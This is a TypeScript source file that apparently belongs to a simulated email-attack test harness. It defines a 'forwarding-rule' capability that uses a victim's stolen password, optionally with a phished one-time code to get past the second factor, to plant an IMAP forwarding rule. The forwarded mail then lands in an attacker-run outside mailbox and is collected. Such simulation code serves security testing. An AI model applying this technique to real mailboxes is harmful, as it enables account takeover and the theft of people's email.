import { ADDRESS, capabilitySpec, type ParamsOf, capability } from './capability.js';
import { plantForwardingRule } from '@ssmax/sim-attacker';
import { NotObservableError } from '../implementation/outside-org.js';

/** Plants a forwarding rule to the attacker with the stolen mailbox password (incident 7). */
const spec = capabilitySpec('forwarding-rule', {
  phase: 'foothold',
  params: {
    type: 'object',
    additionalProperties: false,
    required: ['account', 'forwardTo'],
    properties: {
      account: { ...ADDRESS, description: 'The world user whose password is stolen.' },
      forwardTo: { ...ADDRESS, description: "The attacker's address; its domain gets an outside MX that collects what is forwarded." },
      secondFactor: {
        enum: ['none', 'phished'],
        description: 'phished: the attacker relays the one-time code the victim types on a phishing page, so a mailbox second factor does not stop the rule.',
      },
    },
  },
});
export type ForwardingRuleParams = ParamsOf<typeof spec>;

export const forwardingRule = capability(spec, {
  eavesdrops: () => true,
  leavesState: true,
  async run(cell, p) {
    const victim = cell.user(p.account);
    // The rule lives in the world's mailbox, but the forwarded copy needs the org's own MTA-out: an outside
    // implementation delivers over LMTP by itself, so the rule would silently never fire.
    if (victim.org.outside)
      throw new NotObservableError(
        `Cannot plant a forwarding rule for ${victim.address}. Its org is run by ${victim.org.implementation}, which the world's mailbox rules do not reach.`,
      );
    // The code the victim's phone shows now: Dovecot checks it against real time, not the world clock.
    const code = p.secondFactor === 'phished' ? victim.totpCode(new Date()) : undefined;
    const o = await plantForwardingRule(
      {
        kind: 'stolen-password',
        imap: { host: victim.org.mailbox.host, port: victim.org.mailbox.imapPort },
        user: victim.address,
        password: code ? `${victim.password}:${code}` : victim.password,
        rules: victim.org.mailbox,
      },
      { forwardTo: p.forwardTo },
    );
    cell.outcomes.push(o);
    if (o.error) return;
    // The attacker's own outside mailbox receives whatever the rule forwards.
    const fwd = await cell.ownMailbox(p.forwardTo.split('@')[1]!);
    cell.closeLater(`the forwarding target ${p.forwardTo}`, async () => {
      for (const raw of fwd.received) cell.obtained.push({ kind: 'body', bytes: raw, note: 'forwarded copy' });
      await fwd.close();
    });
  },
});
